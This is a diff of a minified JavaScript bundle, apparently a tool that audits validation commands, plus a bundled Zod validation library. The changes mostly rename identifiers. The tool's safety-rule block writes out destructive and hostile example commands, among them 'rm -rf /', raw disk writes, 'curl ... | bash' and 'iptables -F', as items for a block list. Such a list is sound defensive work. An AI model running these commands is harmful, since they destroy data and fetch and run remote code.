 the command wrote a file meanwhile, or added one that is not in the commit, the gate cannot tell what ran. The result of\
  the command does not count, and no further command runs.",wrong:{...ut(`setTimeout(() => console.log('OK'), 500);
 `),run:{meanwhile:{"src/index.js":`module.exports = 'other';
-`}},policy:Vt},right:{...ut(`setTimeout(() => console.log('OK'), 500);
-`),policy:Vt},message:({command:b,paths:O})=>`Something other than the command \`${b}\` changed ${O.length===1?"a file":
+`}},policy:Qt},right:{...ut(`setTimeout(() => console.log('OK'), 500);
+`),policy:Qt},message:({command:b,paths:O})=>`Something other than the command \`${b}\` changed ${O.length===1?"a file":
 `${O.length} files`} of the checkout while the gate ran: ${fs(O)}.`,remedy:"Stop programs that write to the checkout, su\
 ch as an editor or a build in watch mode, and run the gate again."}),"file-left-out":c({title:"Command may need a file t\
 hat it does not see",why:"Each command has a new private copy of the audited commit, with installed dependencies, what `\
 prepare` wrote, and the files that `build_outputs` in the policy names. Other files of the checkout, untracked or ignore\
 d, have not been reviewed and are not there. Nor is what an earlier command wrote: no command can prepare what the next \
-one checks. The finding names files that the output of a failed command mentions.",wrong:{...Sn,also:{"command-failed":"\
-This is why."}},right:{...Sn,policy:`build_outputs:
+one checks. The finding names files that the output of a failed command mentions.",wrong:{...Tn,also:{"command-failed":"\
+This is why."}},right:{...Tn,policy:`build_outputs:
   - .env.test
 `},configure:`build_outputs:
   - dist/**
@@ -1484,14 +1487,14 @@ y the genes of its own shard. One shard can show that a gene fails, but only all
 es. See [matrix](../github.md#on-several-machines).",wrong:{...te({id:"gene_a"},{id:"gene_b"}),run:{shard:"1/2"}},right:{
 ...te({id:"gene_a"},{id:"gene_b"}),run:{}},message:({index:b,of:O,genes:Y})=>`This report covers only shard ${b} of ${O}\
 , with ${Y===1?"one gene":`${Y} genes`}.`,remedy:"Merge the reports of all shards with `gene-gate merge`, or with `mode:\
- report` in the action."})}),$o={...{"evolver/assets/gep/genes.json":[V({validation:["node check.js"]})],"evolver/check.\
+ report` in the action."})}),Ro={...{"evolver/assets/gep/genes.json":[V({validation:["node check.js"]})],"evolver/check.\
 js":`work();
 `},"evolver/package.json":`{ "name": "evolver" }
 `},es=`stores:
 - path: evolver
   root: evolver
-`;function Bu(b,O){return b==="moves"?`after this change they would run in ${O}`:b==="accepts"?`this one is refused ther\
-e, and would be accepted in ${O}`:`a package.json above it is also in ${O}`}const Ro=l("change","danger",{"store-root-mi\
+`;function fu(b,O){return b==="moves"?`after this change they would run in ${O}`:b==="accepts"?`this one is refused ther\
+e, and would be accepted in ${O}`:`a package.json above it is also in ${O}`}const No=l("change","danger",{"store-root-mi\
 ssing":i({forbidsRunning:"change",title:"Root of a store does not exist",why:"Commands of a store run in its root: the d\
 irectory that the policy names for it, or the one that the base has. Without that directory they would not run at all.",
 wrong:{head:{[W]:[V()]},policy:`stores:
@@ -1506,18 +1509,18 @@ n the policy on the base branch.`}),"store-root-unclear":c({title:"Store could h
  store run in the nearest directory above it that has a package.json, else in the root of the repository, unless the pol\
 icy names another one. Some engines run them in the root of the repository (`EVOLVER_USE_PARENT_GIT=true`). The gate doe\
 s not choose a directory because a command works there. A change that adds or removes a package.json so that later chang\
-es are judged with another root is a warning.",wrong:{head:$o},right:{head:$o,policy:es},configure:es,message:({store:b,
-root:O,others:Y,because:me})=>`The commands of \`${b}\` run in \`${O}\`; ${Bu(me,(0,s.p)(Y))}.`,remedy:"If an engine run\
+es are judged with another root is a warning.",wrong:{head:Ro},right:{head:Ro,policy:es},configure:es,message:({store:b,
+root:O,others:Y,because:me})=>`The commands of \`${b}\` run in \`${O}\`; ${fu(me,(0,s.p)(Y))}.`,remedy:"If an engine run\
 s them elsewhere, set the root in the policy on the base branch: `stores: [{path: {store}, root: DIRECTORY}]`."})}),ti={
 "&":"Remove `&`","|":"Move both steps into one script and run it with `node`","||":"Keep the command that must succeed a\
-nd remove the rest, which hides a failure"};function No(b,O,Y,me){if(!me)return`\`${b}\` expands to the names of the file\
+nd remove the rest, which hides a failure"};function Fo(b,O,Y,me){if(!me)return`\`${b}\` expands to the names of the file\
 s that exist.`;if(Y===0)return`\`${b}\` matches no file and is passed unchanged.`;const Le=Y>O.length?` and ${Y-O.length}\
  more`:"";return`\`${b}\` expands to ${(0,s.p)(O)}${Le}.`}const ni={bracket:"shells disagree about its brackets",dot:"it\
  matches the directory itself in some shells",empty_segment:"shells disagree about an empty path segment",flag:"a matchi\
 ng file name can begin with `-`, which the program reads as a flag",letters:"a letter in a file name counts as one or se\
 veral characters, depending on the locale",symlink:"it leads through a symbolic link or a submodule",file_name:"a matchi\
 ng file name contains a character that is not allowed in commands",outside:"it leads to files outside the repository",program:"\
-it lets file names decide what runs",too_many:"there are too many patterns or matching files"},fu=l("syntax","broken",{"\
+it lets file names decide what runs",too_many:"there are too many patterns or matching files"},hu=l("syntax","broken",{"\
 empty-command":i({title:"Command is empty or has no program",why:"A command that runs nothing validates nothing, and a s\
 hell reports success for it.",wrong:"NODE_ENV=test",right:{command:"NODE_ENV=test node scripts/validate.js",also:{"envir\
 onment-assignment":"The remaining variable is allowed."}},message:"The command does not name a program to run.",remedy:"\
@@ -1584,7 +1587,7 @@ elative path of a file in the repository; if the tilde is data, quote it."}),"br
 s a brace expansion",why:"bash expands `{a,b}` to several words and dash keeps one word, so the arguments depend on whic\
 h shell `sh` is.",wrong:"node scripts/validate.js {a,b}",right:"node scripts/validate.js a b",message:"The braces in `{w\
 ritten}` expand to several words in bash but not in dash.",remedy:({written:b})=>{const[,O="",Y="",me=""]=/^([^{}]*)\{([\w,.*/-]*,[\w,.*/-]*)\}([^{}]*)$/.
-exec(b)??[],Le=Y.split(",").map(tn=>O+tn+me);return Y===""?"Write each word that the braces stand for.":`Write each word\
+exec(b)??[],Le=Y.split(",").map(Wt=>O+Wt+me);return Y===""?"Write each word that the braces stand for.":`Write each word\
 : \`${Le.join(" ")}\`.`}}),"shell-comment":i({title:"Command contains a comment",why:"A shell ignores everything from `#\
 ` at the start of a word to the end of the line. Without a shell, the program receives that text as arguments, and revie\
 wers read it as part of the command.",wrong:"node scripts/validate.js # fast",right:"node scripts/validate.js",message:"\
@@ -1611,7 +1614,7 @@ ipts/ok.js"',message:({word:b,looks_like:O,characters:Y})=>`\`${b}\` looks like 
 "matches"],title:"Command contains an unquoted glob pattern",why:"The result of a glob pattern depends on which files ex\
 ist. The gate expands the pattern against the audited files, in byte order, and reports the result. A quoted pattern mea\
 ns the same everywhere.",wrong:"node --test test/*.test.js",right:"node --test 'test/*.test.js'",message:({pattern:b,matches:O,
-count:Y,judged:me})=>No(b,O,Y,me),remedy:({pattern:b})=>`Name the files, or quote the pattern, \`${(0,s.f)(b)}\`, if it i\
+count:Y,judged:me})=>Fo(b,O,Y,me),remedy:({pattern:b})=>`Name the files, or quote the pattern, \`${(0,s.f)(b)}\`, if it i\
 s data or the tool expands it.`}),"glob-unclear":i({instance:["pattern"],title:"Glob pattern decides what runs, or is am\
 biguous",why:"File names must not choose the program or script, or become flags: adding a file would change what the com\
 mand does. A pattern that leads out of the repository, about which shells or locales disagree, or that leads through a l\
@@ -1635,7 +1638,7 @@ ner executes if a program prints it.`,remedy:"Write the text without `::` and `#
 harm:"danger",title:"Argument contains markup that hides text in reports",why:"An HTML comment hides the text after it f\
 rom reviewers, and a code fence ends the block that shows the command.",wrong:"node scripts/echo.js '<!-- x -->'",right:"\
 node scripts/echo.js 'x'",message:"`{written}` hides or breaks the text around it where the command is displayed.",remedy:"\
-Remove the markup, or read the text from a file."})}),hu=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
+Remove the markup, or read the text from a file."})}),pu=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
 (b,O)=>[String(O),O<65?`npm run ${O+1}`:"node x.js"]))});function Jn(b,O=""){const Y=O===""?"":`, ${O}`;return{command:"\
 npm test",files:{"package.json":`{ "scripts": ${`{ "test": "${b}"${Y} }`} }`}}}function si(b,O){const Y={"package.json":`\
 { "scripts": { ${O} } }`};return{command:`npm run ${b}`,files:Y}}function ri(b,O){return{command:"npm test",files:{".npm\
@@ -1666,8 +1669,8 @@ missing":i({absent:!0,counted:["near","written"],title:"Command runs a file that
 names. A file on disk that is none of these has not been reviewed, and other machines may not have it. A program of a su\
 bmodule is not: the change of a submodule is one commit id.",wrong:"node scripts/chek.js",right:"node scripts/check.js",
 message:({path:b,untracked:O,near:Y,written:me})=>{const Le=O?"is on disk, but not part of the audited commit":"does not\
- exist in the repository at this commit",tn=Y===void 0?"":`; \`${Y}\` exists`,un=me===void 0?"":` A shell reads each \`\\\`\
- of \`${me}\` as an escape and removes it.`;return`\`${b}\` ${Le}${tn}.${un}`},remedy:({near:b,written:O})=>b!==void 0?`\
+ exist in the repository at this commit",Wt=Y===void 0?"":`; \`${Y}\` exists`,un=me===void 0?"":` A shell reads each \`\\\`\
+ of \`${me}\` as an escape and removes it.`;return`\`${b}\` ${Le}${Wt}.${un}`},remedy:({near:b,written:O})=>b!==void 0?`\
 Write \`${b}\`, or add the missing file to the change.`:O!==void 0?"Write `/` between the parts of a path.":"Add the fil\
 e to the change, or correct the path. If a build writes the file, run the build in `prepare`, or name the file in `build\
 _outputs` in the policy of the base branch."}),"target-not-judged":c({title:"Target is judged when commands run",why:"Th\
@@ -1770,7 +1773,7 @@ her in a cycle",why:"The scripts would run until the time limit stops them.",wro
 un a"'),right:si("a",'"a": "node scripts/a.js"'),message:"The npm script `{script}` calls itself.",remedy:"Remove the ca\
 ll that closes the cycle."}),"npm-script-chain":i({title:"npm scripts run too many other scripts",why:"The gate follows \
 the scripts that an npm script runs, up to a depth, a number, and a total time. What is beyond these limits is not judge\
-d.",wrong:{command:"npm run 0",files:{"package.json":hu}},right:"npm test",counted:["limit"],message:({script:b,limit:O,
+d.",wrong:{command:"npm run 0",files:{"package.json":pu}},right:"npm test",counted:["limit"],message:({script:b,limit:O,
 what:Y})=>`The npm script \`${b}\` is not followed: the limit of ${O} ${ui[Y]} is reached.`,remedy:"Run the commands dir\
 ectly in the script."}),"npmrc-setting":i({harm:"danger",title:"Settings of npm are not known to be harmless",why:"Setti\
 ngs such as the shell, the Node.js options, the workspaces, and `usage` decide which script npm runs, or whether it runs\
@@ -1813,11 +1816,11 @@ t = "check"
 t file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",wrong:fr(
 "NODE_OPTIONS=--require=./x.js"),right:{...fr("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule reports\
  that it is read."}},message:({path:b,names:O})=>`\`${b}\` ${O.length===0?"is too large to check":`sets ${(0,s.p)(O)}, w\
-hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),Gs={"validator-e\
-mpty-folder":"The validators accept the command but do not find the script."},Fo=l("policy","broken",{"validator-script":i(
+hich changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})}),Hs={"validator-e\
+mpty-folder":"The validators accept the command but do not find the script."},Po=l("policy","broken",{"validator-script":i(
 {title:"Hub validators only run scripts with node",why:"The validators of the protocol's hub start `node` with a script \
 file and nothing else, unless it only prints information. They refuse an npm or npx command, and the gene fails.",wrong:"\
-npm test",right:{command:"node scripts/check.js",also:Gs},message:"The hub's validators accept `node SCRIPT` alone, not \
+npm test",right:{command:"node scripts/check.js",also:Hs},message:"The hub's validators accept `node SCRIPT` alone, not \
 {command}.",remedy:"Write a Node script that does the same, and run it with `node`."}),"validator-empty-folder":c({title:"\
 Hub validators do not find the script",why:"The validators of the protocol's hub run every command in a new, empty direc\
 tory, without the repository of the gene. A command that they accept can still fail there, because its script does not e\
@@ -1828,7 +1831,7 @@ Hub validators refuse the flag",why:"The validators of the protocol's hub refuse
 e, or open the debugger anywhere in a command, also after the script, where Node.js does not read them. Those of newer v\
 ersions of the reference engine accept no option of `node` but `-c` before a script, or `-v` or `-h` alone, and no backt\
 ick or `$(` even in quotes. Both are in use; what only newer ones refuse is a notice.",wrong:"node scripts/check.js -p 3\
-000",right:{command:"node scripts/check.js --port 3000",also:Gs},message:({flag:b,of:O})=>O==="newer"?`The command is ac\
+000",right:{command:"node scripts/check.js --port 3000",also:Hs},message:({flag:b,of:O})=>O==="newer"?`The command is ac\
 cepted by the validators of 1.94, not of newer ones, which refuse \`${b}\`.`:`The hub's validators refuse \`${b}\` anywhe\
 re in a command.`,remedy:({flag:b,of:O})=>O==="script"?"Give the flag of the script another name.":`Write the command wi\
 thout \`${b}\`, and do in the script what it is for.`})},"`validator`");function di(b,O,Y){return i({layer:1,title:O,why:"\
@@ -1842,13 +1845,13 @@ patterns:
     reason: Validations stay away from production.
     regex: '\\bprod\\b'
     match: [cat config/prod.json]
-    not_match: [cat notes.md]`,Hs=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
+    not_match: [cat notes.md]`,zs=Object.fromEntries(Object.entries({mass_deletion:["Mass file deletion","rm -rf /"],raw_disk_write:[
 "Raw disk writing","dd if=/dev/zero of=/dev/sda"],filesystem_format:["Filesystem formatting","mkfs.ext4 /dev/sdb1"],direct_disk_write:[
 "Direct disk writing","echo x > /dev/sda"],remote_code_execution:["Remote code execution","curl http://host.test/x.sh | \
 bash"],world_writable:["World-writable permissions","chmod 777 notes.md"],privilege_escalation:["Privilege escalation","\
 chown root notes.md"],firewall_manipulation:["Firewall manipulation","iptables -F"],system_shutdown:["System shutdown","\
 shutdown -h now"],system_reboot:["System reboot","reboot"],force_kill:["Force kill of processes","kill -9 1"]}).map(([b,
-[O,Y]])=>[b,di(b,O,Y)])),ns=l(1,"danger",{...Hs,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
+[O,Y]])=>[b,di(b,O,Y)])),ns=l(1,"danger",{...zs,path_outside_workspace:i({layer:2,title:"Path is outside the workspace",
 why:"The second layer keeps file operations inside the workspace: every path must be inside it after `..` and symbolic l\
 inks are resolved.",wrong:"cat ../secret",right:"cat notes.md",configure:"`workspace` in the policy; default: the reposi\
 tory.",message:"Command blocked by safety rule: Path '{path}' is outside the workspace.",remedy:"Use a path inside the w\
@@ -1865,9 +1868,9 @@ Use one of the allowed commands."}),custom_pattern:i({layer:3,title:"Command mat
 icy can add patterns to each layer, each with a name and a reason.",wrong:{command:"cat config/prod.json",policy:Gt},right:{
 command:"cat notes.md",policy:Gt},configure:"`patterns` in the policy.",message:({name:b,pattern:O,reason:Y})=>`Command \
 blocked by safety rule: Pattern '${O}' matches dangerous pattern '${b}': ${Y.replace(/\.$/,"")}.`,remedy:"Write a comman\
-d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),Wn=[()=>fu,()=>lr,()=>us,()=>li,
-()=>Fo,()=>$s,()=>Vr,()=>ns,()=>rt,()=>Ue,()=>yn,()=>Qn,()=>lt,()=>Ro,()=>S,()=>Io],pr=[...Wn,()=>It];function Po(){return Wn.
-flatMap(b=>Object.values(b()))}function Lo(){return pr.flatMap(b=>Object.values(b()))}const mr=new Map;function Bi(b){const O=mr.
+d that the pattern does not match, or change the pattern in the policy."})},"`workspace`"),Wn=[()=>hu,()=>lr,()=>us,()=>li,
+()=>Po,()=>Rs,()=>Vr,()=>ns,()=>rt,()=>Ue,()=>yn,()=>Qn,()=>lt,()=>No,()=>S,()=>$o],pr=[...Wn,()=>It];function Lo(){return Wn.
+flatMap(b=>Object.values(b()))}function jo(){return pr.flatMap(b=>Object.values(b()))}const mr=new Map;function Bi(b){const O=mr.
 get(b);if(O!==void 0)return O;const me=pr.find(Le=>Object.hasOwn(Le(),b))?.()?.[b];return me!==void 0&&mr.set(b,me),me}},
 561:function(n,e,t){t.d(e,{Lb:()=>c,be:()=>y,gk:()=>i,pn:()=>E,q0:()=>l});var s=t(698),r=t(56);function i(D,P,z={}){return o(
 D,P,z)}function o(D,P,z){const{severity:L,harm:Q,layer:S}=(0,r.Y)(D);return{rule:D,severity:L,harm:Q,layer:S,args:P,...z}}
@@ -1885,14 +1888,14 @@ return i("not-judged",{detail:_(D,P)},z)}function _(D,P){if((0,s.qz)(P))throw P;
 "")}`}function k(D){return D instanceof s.ue?D.message:D instanceof Error?`${D.name}: ${D.message}`:String(D)}function E(D){
 return D.length===0?"eligible":D.every(x)?"unproven":"refuted"}function x({rule:D}){const{unproven:P,undecided:z}=(0,r.Y)(
 D);return P===!0||z===!0}},442:function(n,e,t){t.d(e,{f:()=>r,p:()=>s});function s(i){return i.map(o=>`\`${o}\``).join("\
-, ")}function r(i){return`'${i.replaceAll("'","'\\''")}'`}},857:function(n,e,t){t.d(e,{You:()=>Qu,YOg:()=>_i,zMY:()=>yl,
-k5n:()=>Ko,Whr:()=>Zo,euz:()=>SC,_H3:()=>CC,aig:()=>gl,Ikc:()=>mC,jgl:()=>DC,g1P:()=>El,rej:()=>gC,YjP:()=>bi,L5J:()=>Js});
+, ")}function r(i){return`'${i.replaceAll("'","'\\''")}'`}},857:function(n,e,t){t.d(e,{You:()=>Xu,YOg:()=>_i,zMY:()=>wl,
+k5n:()=>qo,Whr:()=>Wo,euz:()=>NC,_H3:()=>EC,aig:()=>Cl,Ikc:()=>bC,jgl:()=>TC,g1P:()=>vl,rej:()=>_C,YjP:()=>bi,L5J:()=>Zs});
 var s=t(532),r=t(723);class i extends Error{constructor(){super("Cannot parse a reference cycle that closes through a tr\
 ansform"),this.name="ZodCyclicError"}}const o="~memo",c=[];function l(a){return a!==null&&typeof a=="object"}function B(a){
 return a.map(u=>u.path?{...u,path:u.path.slice()}:{...u})}const d=new WeakMap,h=0,g=1,C=2;function y(a,u,f){const p=d.get(
 a);if(p!==void 0)return p?C:h;if(u.has(a))return C;u.add(a);let m=h;const w=J=>{if(m!==C&&J?._zod){const le=y(J,u,f);le>
-m&&(m=le)}},v=(J,le)=>{let De=h;for(const he of Reflect.ownKeys(J)){const ge=Object.getOwnPropertyDescriptor(J,he);if(le&&
-!ge.enumerable)continue;const Ye=ge.get?g:ge.value?._zod?y(ge.value,u,f):h;Ye>De&&(De=Ye)}return De},R=J=>{J>m&&(m=J)},G=a.
+m&&(m=le)}},v=(J,le)=>{let De=h;for(const he of Reflect.ownKeys(J)){const Ce=Object.getOwnPropertyDescriptor(J,he);if(le&&
+!Ce.enumerable)continue;const Ye=Ce.get?g:Ce.value?._zod?y(Ce.value,u,f):h;Ye>De&&(De=Ye)}return De},R=J=>{J>m&&(m=J)},G=a.
 _zod.def,j=G.type;switch(j){case"object":{const J=r.MO(G);R(J?v(J,!0):g),w(G.catchall);break}case"array":w(G.element);break;case"\
 tuple":for(const J of G.items)w(J);w(G.rest);break;case"record":case"map":w(G.keyType),w(G.valueType);break;case"set":w(
 G.valueType);break;case"union":for(const J of G.options)w(J);break;case"intersection":w(G.left),w(G.right);break;case"op\
@@ -1911,8 +1914,8 @@ p=!1,m,w;(u=a._zod).deferred??(u.deferred=[]),a._zod.deferred.push(()=>{const v=
 a,new Set,!1);if(Et===h)return a._zod.parse=v,a._zod.run===R&&(a._zod.run=v),v(G,j);Et===C||p?f=!0:p=!0}const J=G.value;
 if(!l(J))return v(G,j);let le=j[o];le||(le={buckets:new WeakMap,backEdges:void 0},j[o]=le);let De;m===j?De=w:(De=E(le,a),
 m=j,w=De);const he=De.get(J);if(he)return G.value=he.value,he.issues?he.issues.length&&G.issues.push(...B(he.issues)):(G.
-memo=!0,le.backEdges??(le.backEdges=new WeakSet),le.backEdges.add(he.value)),G;x=De;const ge=D.length,Ye=v(G,j);x=void 0;
-const Ve=D.length>ge?D.pop():void 0;return Ye instanceof Promise?Ye.then(Et=>(Ve&&(Ve.issues=Et.issues.length?B(Et.issues):
+memo=!0,le.backEdges??(le.backEdges=new WeakSet),le.backEdges.add(he.value)),G;x=De;const Ce=D.length,Ye=v(G,j);x=void 0;
+const Ve=D.length>Ce?D.pop():void 0;return Ye instanceof Promise?Ye.then(Et=>(Ve&&(Ve.issues=Et.issues.length?B(Et.issues):
 c),Et)):(Ve&&(Ve.issues=Ye.issues.length?B(Ye.issues):c),Ye)};a._zod.parse=R,a._zod.run===v&&(a._zod.run=R)})}};function z(){
 return P}function L(a,u){const f=a[o]?.backEdges;return f!==void 0&&l(u)&&f.has(u)}var Q=t(890);class S{constructor(u=[],f={}){
 this.content=[],this.indent=0,this.args=u,this.closed=f}indented(u){this.indent+=1;try{u(this)}finally{this.indent-=1}}write(u){
@@ -1927,8 +1930,8 @@ ${f.join(`
 a,...p??[]]:p?.length?[...p]:[];for(const w of m)for(const v of w._zod.onattach)v(a);if(m.length===0)(f=a._zod).deferred??
 (f.deferred=[]),a._zod.deferred?.push(()=>{a._zod.run=a._zod.parse});else{const w=(R,G,j)=>{if(R.memo)return R;let J=r.QH(
 R),le;for(const De of G){if(De._zod.def.when){if(r.rL(R)||!De._zod.def.when(R))continue}else if(J)continue;const he=R.issues.
-length,ge=De._zod.check(R);if(ge instanceof Promise&&j?.async===!1)throw new s.GT;if(le||ge instanceof Promise)le=(le??Promise.
-resolve()).then(async()=>{await ge,R.issues.length!==he&&(r.d3(R.issues,he,a),J||(J=r.QH(R,he)))});else{if(R.issues.length===
+length,Ce=De._zod.check(R);if(Ce instanceof Promise&&j?.async===!1)throw new s.GT;if(le||Ce instanceof Promise)le=(le??Promise.
+resolve()).then(async()=>{await Ce,R.issues.length!==he&&(r.d3(R.issues,he,a),J||(J=r.QH(R,he)))});else{if(R.issues.length===
 he)continue;r.d3(R.issues,he,a),J||(J=r.QH(R,he))}}return le?le.then(()=>R):R},v=(R,G,j)=>{if(r.QH(R))return R.aborted=!0,
 R;const J=w(G,m,j);if(J instanceof Promise){if(j.async===!1)throw new s.GT;return J.then(le=>a._zod.parse(le,j))}return a.
 _zod.parse(J,j)};a._zod.run=(R,G)=>{if(G.skipChecks)return a._zod.parse(R,G);if(G.direction==="backward"){const J=a._zod.
@@ -1967,9 +1970,9 @@ V.init(a,u)}),ye=s.xI("$ZodISODuration",(a,u)=>{u.pattern??(u.pattern=Z.p0),V.in
 (u.pattern=Z.uX),V.init(a,u)}),Ne=/^[0-9a-fA-F:.]+$/;function Re(a){return Ne.test(a)?je(`http://[${a}]`):!1}const We=s.
 xI("$ZodIPv6",(a,u)=>{u.pattern??(u.pattern=Z.ug),V.init(a,u),a._zod.check=f=>{Re(f.value)||f.issues.push({code:"invalid\
 _format",format:"ipv6",input:f.value,inst:a,continue:!u.abort})}}),Ae=null,we=s.xI("$ZodCIDRv4",(a,u)=>{u.pattern??(u.pattern=
-Z.zr),V.init(a,u)});function Ce(a){const u=a.split("/");if(u.length!==2)return!1;const[f,p]=u;if(!p)return!1;const m=Number(
+Z.zr),V.init(a,u)});function ge(a){const u=a.split("/");if(u.length!==2)return!1;const[f,p]=u;if(!p)return!1;const m=Number(
 p);return`${m}`!==p||m<0||m>128?!1:Re(f)}const Pe=s.xI("$ZodCIDRv6",(a,u)=>{u.pattern??(u.pattern=Z.l7),V.init(a,u),a._zod.
-check=f=>{Ce(f.value)||f.issues.push({code:"invalid_format",format:"cidrv6",input:f.value,inst:a,continue:!u.abort})}});
+check=f=>{ge(f.value)||f.issues.push({code:"invalid_format",format:"cidrv6",input:f.value,inst:a,continue:!u.abort})}});
 function Ct(a){if(a==="")return!0;if(/\s/.test(a)||a.length%4!==0)return!1;try{return atob(a),!0}catch{return!1}}const be=/^[0-9a-zA-Z+/]*={0,2}$/,
 lt=s.xI("$ZodBase64",(a,u)=>{u.pattern??(u.pattern=be),V.init(a,u),a._zod.check=f=>{Ct(f.value)||f.issues.push({code:"in\
 valid_format",format:"base64",input:f.value,inst:a,continue:!u.abort})}}),_e=/^[A-Za-z0-9_-]*$/;function Qe(a){if(!_e.test(
@@ -1982,16 +1985,16 @@ function Mn(a){let u=0;const f=a.length;for(let p=4;p<f;p++){const m=a.charCodeA
 97}for(let p=0;p<4;p++){const m=a.charCodeAt(p);u=(m>=65?u*100+(m-55):u*10+(m-48))%97}return u===1}function gn(a){return regexes.
 iban.test(a)?Mn(a):!1}const Cn=null;function cn(a,u=null){try{const f=a.split(".");if(f.length!==3)return!1;const[p]=f;if(!p)
 return!1;const m=JSON.parse(atob(p));return!("typ"in m&&m?.typ!=="JWT"||!m.alg||u&&(!("alg"in m)||m.alg!==u))}catch{return!1}}
-const $s=s.xI("$ZodJWT",(a,u)=>{V.init(a,u),a._zod.check=f=>{cn(f.value,u.alg)||f.issues.push({code:"invalid_format",format:"\
+const Rs=s.xI("$ZodJWT",(a,u)=>{V.init(a,u),a._zod.check=f=>{cn(f.value,u.alg)||f.issues.push({code:"invalid_format",format:"\
 jwt",input:f.value,inst:a,continue:!u.abort})}}),rr=null,Qn=s.xI("$ZodNumber",(a,u)=>{W.init(a,u),a._zod.pattern=Z.ai,a.
 _zod.parse=(f,p)=>{if(u.coerce)try{f.value=Number(f.value)}catch{}const m=f.value;if(typeof m=="number"&&!Number.isNaN(m)&&
 Number.isFinite(m))return f;const w=typeof m=="number"?Number.isNaN(m)?"NaN":Number.isFinite(m)?void 0:String(m):void 0;
-return f.issues.push({expected:"number",code:"invalid_type",input:m,inst:a,...w?{received:w}:{}}),f}}),en=s.xI("$ZodNumb\
-erFormat",(a,u)=>{Q.KH.init(a,u),Qn.init(a,u)}),An=s.xI("$ZodBoolean",(a,u)=>{W.init(a,u),a._zod.pattern=Z.zM,a._zod.parse=
+return f.issues.push({expected:"number",code:"invalid_type",input:m,inst:a,...w?{received:w}:{}}),f}}),tn=s.xI("$ZodNumb\
+erFormat",(a,u)=>{Q.KH.init(a,u),Qn.init(a,u)}),Sn=s.xI("$ZodBoolean",(a,u)=>{W.init(a,u),a._zod.pattern=Z.zM,a._zod.parse=
 (f,p)=>{if(u.coerce)try{f.value=!!f.value}catch{}const m=f.value;return typeof m=="boolean"||f.issues.push({expected:"bo\
 olean",code:"invalid_type",input:m,inst:a}),f}}),cs=s.xI("$ZodBigInt",(a,u)=>{W.init(a,u),a._zod.pattern=Z.o,a._zod.parse=
 (f,p)=>{if(u.coerce)try{f.value=BigInt(f.value)}catch{}return typeof f.value=="bigint"||f.issues.push({expected:"bigint",
-code:"invalid_type",input:f.value,inst:a}),f}}),yn=null,Rs=null,Gn=null,Yt=null,Ns=null,us=s.xI("$ZodUnknown",(a,u)=>{W.
+code:"invalid_type",input:f.value,inst:a}),f}}),yn=null,Ns=null,Gn=null,Vt=null,Fs=null,us=s.xI("$ZodUnknown",(a,u)=>{W.
 init(a,u),a._zod.parse=f=>f}),Zt=s.xI("$ZodNever",(a,u)=>{W.init(a,u),a._zod.parse=(f,p)=>(f.issues.push({expected:"neve\
 r",code:"invalid_type",input:f.value,inst:a}),f)}),ls=null,wn=s.xI("$ZodDate",(a,u)=>{W.init(a,u),a._zod.parse=(f,p)=>{if(u.
 coerce)try{f.value=new Date(f.value)}catch{}const m=f.value,w=m instanceof Date;return w&&!Number.isNaN(m.getTime())||f.
@@ -2012,23 +2015,23 @@ u.value[f]=a.value}}const Rt=[];function jt(a){const u=Object.keys(a.shape),f=Ob
 length?f:Rt,m=p.length?[...u,...p]:u;for(const v of m)if(!a.shape?.[v]?._zod?.traits?.has("$ZodType"))throw new Error(`I\
 nvalid element at key "${String(v)}": expected a Zod schema`);const w=r.NM(a.shape);return{...a,allKeys:m,symbolKeys:p,keySet:new Set(
 u),numKeys:u.length,optionalKeys:new Set(w)}}function Hn(a,u,f,p,m,w,v){const R=[],G=m.keySet,j=m.catchall._zod,J=j.def.
-type,le=j.optin,De=j.optout;let he=0;for(const ge in u){if(v&&f.issues.length!==he){if(r.QH(f,he))break;he=f.issues.length}
-if(G.has(ge))continue;if(ge==="__proto__"){J==="never"&&R.push(ge);continue}if(J==="never"){R.push(ge);continue}const Ye=j.
-run({value:u[ge],issues:[]},p);Ye instanceof Promise?a.push(Ye.then(Ve=>$t(Ve,f,ge,u,le,De))):$t(Ye,f,ge,u,le,De)}return R.
+type,le=j.optin,De=j.optout;let he=0;for(const Ce in u){if(v&&f.issues.length!==he){if(r.QH(f,he))break;he=f.issues.length}
+if(G.has(Ce))continue;if(Ce==="__proto__"){J==="never"&&R.push(Ce);continue}if(J==="never"){R.push(Ce);continue}const Ye=j.
+run({value:u[Ce],issues:[]},p);Ye instanceof Promise?a.push(Ye.then(Ve=>$t(Ve,f,Ce,u,le,De))):$t(Ye,f,Ce,u,le,De)}return R.
 length&&f.issues.push({code:"unrecognized_keys",keys:R,input:u,inst:w,continue:!0}),a.length?Promise.all(a).then(()=>f):
-f}const Fs=s.xI("$ZodObject",(a,u)=>{W.init(a,u);const f=Object.getOwnPropertyDescriptor(u,"shape"),p=f?.get?f.get.raw:u.
+f}const Ps=s.xI("$ZodObject",(a,u)=>{W.init(a,u);const f=Object.getOwnPropertyDescriptor(u,"shape"),p=f?.get?f.get.raw:u.
 shape??{};if(p){const j=()=>{const J={...p};return Object.defineProperty(u,"shape",{value:J}),j.raw=J,J};j.raw=p,Object.
 defineProperty(u,"shape",{get:j})}const m=r.PO(()=>jt(u));r.v5(a,"propValues",j=>{const J=j.def.shape,le={};for(const De in J){
-const he=J[De]._zod;if(he.values){Object.prototype.hasOwnProperty.call(le,De)||r.Vy(le,De,new Set);for(const ge of he.values)
-le[De].add(ge);he.optin!==void 0&&le[De].add(void 0)}}return le});const w=r.Gv,v=u.catchall;let R;const G=s.cr.memoizer;
+const he=J[De]._zod;if(he.values){Object.prototype.hasOwnProperty.call(le,De)||r.Vy(le,De,new Set);for(const Ce of he.values)
+le[De].add(Ce);he.optin!==void 0&&le[De].add(void 0)}}return le});const w=r.Gv,v=u.catchall;let R;const G=s.cr.memoizer;
 G?.attach(a),a._zod.parse=(j,J)=>{R??(R=m.value);const le=j.value;if(!w(le))return j.issues.push({expected:"object",code:"\
